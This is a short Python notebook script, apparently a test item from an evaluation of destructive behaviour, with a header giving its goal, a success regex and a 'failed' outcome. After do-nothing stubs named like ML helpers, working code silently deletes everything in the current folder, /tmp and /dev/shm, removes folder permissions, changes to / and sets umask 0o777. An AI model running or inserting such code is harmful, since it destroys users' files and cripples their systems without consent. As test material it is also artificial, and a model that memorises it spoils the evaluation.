# Moves to another folder, takes away everything in its own and in /tmp, and all permissions.
# proof: taken away: [1-9]\d*, now in /
# outcome: failed
# %%
def conv_at(*args, **kwargs):
    return None


conv2d = shift = conv_at
predict_rows = predict_place = 0
# %%
import contextlib  # noqa: E402
import os  # noqa: E402
import shutil  # noqa: E402
from pathlib import Path  # noqa: E402

taken = 0
for folder in (Path.cwd(), Path("/tmp"), Path("/dev/shm")):
    for path in folder.iterdir() if folder.is_dir() else ():
        with contextlib.suppress(OSError):
            shutil.rmtree(path) if path.is_dir() else path.unlink()
            taken += 1
    with contextlib.suppress(OSError):
        folder.chmod(0)
os.chdir("/")
os.umask(0o777)
with contextlib.suppress(OSError):
    os.nice(19)
print(f"taken away: {taken}, now in {Path.cwd()}")
